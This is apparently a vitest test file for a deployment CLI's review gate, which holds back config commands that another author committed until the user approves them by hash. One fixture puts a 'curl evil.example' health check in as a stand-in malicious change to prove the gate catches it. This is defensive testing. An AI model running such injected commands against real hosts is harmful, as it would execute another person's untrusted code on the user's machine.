import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { Workspace, type Outcome } from '../support/cli';

/** A pipeline with commands, whose runs are refused at a gate: nothing is started. */
const PIPELINE = `app: web
images:
  web: { container: { repository: "127.0.0.1:5000/web", insecureRegistry: true }, test: [{ argv: [./probe, --all] }] }
environments:
  local:
    branches: [never]
    target: { containers: { engine: podman, run: [{ name: web, image: web, slots: { blue: { publish: ["127.0.0.1:8081:80"] }, green: { publish: ["127.0.0.1:8082:80"] } }, env: { KEY: { fromCommand: [keys, "get me"] } } }] } }
    route: { file: { path: run/upstream.conf, content: "\${slot.port}", reload: { argv: [reload] } } }
    health: [{ command: { argv: [healthy] } }]
gates: { lint: off, tests: [{ argv: [make, check] }] }
`;

/** A clone of a repository in which Ben works, on Ana's machine. */
function workspace(): Workspace {
  const made = new Workspace({ 'immutable.yaml': PIPELINE, Dockerfile: 'FROM scratch\n' });
  made.git('init', '--quiet', '--initial-branch=main');
  made.git('config', 'user.name', 'Ana');
  made.git('config', 'user.email', 'ana@example.com');
  return made;
}

function commit(made: Workspace, name: string): void {
  made.git('add', '--all');
  made.git('commit', '--quiet', '--message=change', `--author=${name} <${name.toLowerCase()}@example.com>`);
}

function deploy(made: Workspace, ...words: string[]): Promise<Outcome> {
  return made.run(['deploy', 'local', '--approve', 'all', ...words], { env: { CI: '' } });
}

/** The run began: what stops it is a gate behind the review. */
function isReviewed({ stdout, stderr }: Outcome): boolean {
  return !`${stdout}${stderr}`.includes('--accept-commands') && `${stdout}${stderr}`.includes('Refused before');
}

function hashIn({ stderr }: Outcome): string {
  return /--accept-commands (\w+)/.exec(stderr)?.[1] ?? '';
}

describe('commands that somebody else wrote', () => {
  it('are shown once before anything runs, and run when they were looked at', async () => {
    const made = workspace();
    commit(made, 'Ben');
    const first = await deploy(made);
    expect(first.code).toBe(3);
    expect(first.stderr.split('\n').slice(0, 6)).toEqual([
      'immutable.yaml was changed by Ben <ben@example.com> and would run these commands as you:',
      '  images.web.tests: ./probe --all',
      '  environments.local.target.containers.run.web.env.KEY: keys "get me"',
      '  environments.local.health: healthy',
      '  environments.local.route.file.reload: reload',
      '  gates.tests: make check',
    ]);
    expect((await deploy(made, '--accept-commands', 'other')).code).toBe(3);
    expect(isReviewed(await deploy(made, '--accept-commands', hashIn(first)))).toBe(true);
    expect(isReviewed(await deploy(made))).toBe(true);
  });

  it('are asked for again when they change, and not when something else does', async () => {
    const made = workspace();
    commit(made, 'Ben');
    await deploy(made, '--accept-commands', hashIn(await deploy(made)));
    made.write('immutable.yaml', PIPELINE.replace('[healthy]', '[healthy], every: 3s'));
    commit(made, 'Ben');
    expect(isReviewed(await deploy(made))).toBe(true);
    made.write('immutable.yaml', PIPELINE.replace('[healthy]', '[curl, evil.example]'));
    commit(made, 'Ben');
    const again = await deploy(made);
    expect(again.stderr).toContain('environments.local.health: curl evil.example');
    // Ana's own commit on top does not hide what Ben changed since her last run.
    made.write('immutable.yaml', `${PIPELINE.replace('[healthy]', '[curl, evil.example]')}# mine\n`);
    commit(made, 'Ana');
    expect((await deploy(made)).stderr).toContain('changed by Ben <ben@example.com>');
  });

  it('are known when the user wrote them, committed or not', async () => {
    const made = workspace();
    commit(made, 'Ana');
    expect(isReviewed(await deploy(made))).toBe(true);
    made.write('immutable.yaml', PIPELINE.replace('[healthy]', '[other]'));
    expect(isReviewed(await deploy(made))).toBe(true);
  });

  it('ask nobody in CI, and programs get them as JSON', async () => {
    const made = workspace();
    commit(made, 'Ben');
    const { stdout, code } = await deploy(made, '--json');
    expect(code).toBe(3);
    expect(JSON.parse(stdout)).toMatchObject({ v: 1, type: 'review', authors: ['Ben <ben@example.com>'] });
    const inCi = await made.run(['deploy', 'local', '--approve', 'all'], { env: { CI: 'true' } });
    expect(isReviewed(inCi)).toBe(true);
    expect(readFileSync(made.file('.git/immutable/reviewed-commands.json'), 'utf8')).toMatch(
      /^\{"hash":"[0-9a-f]{32}","commit":"[0-9a-f]{40}"\}$/,
    );
  });

  it('a value that is not there is told as a gate, at once', async () => {
    const { code, stdout } = await deploy(workspace());
    expect(code).toBe(3);
    expect(stdout).toContain('- values: KEY: `keys` is not on PATH.');
  });
});
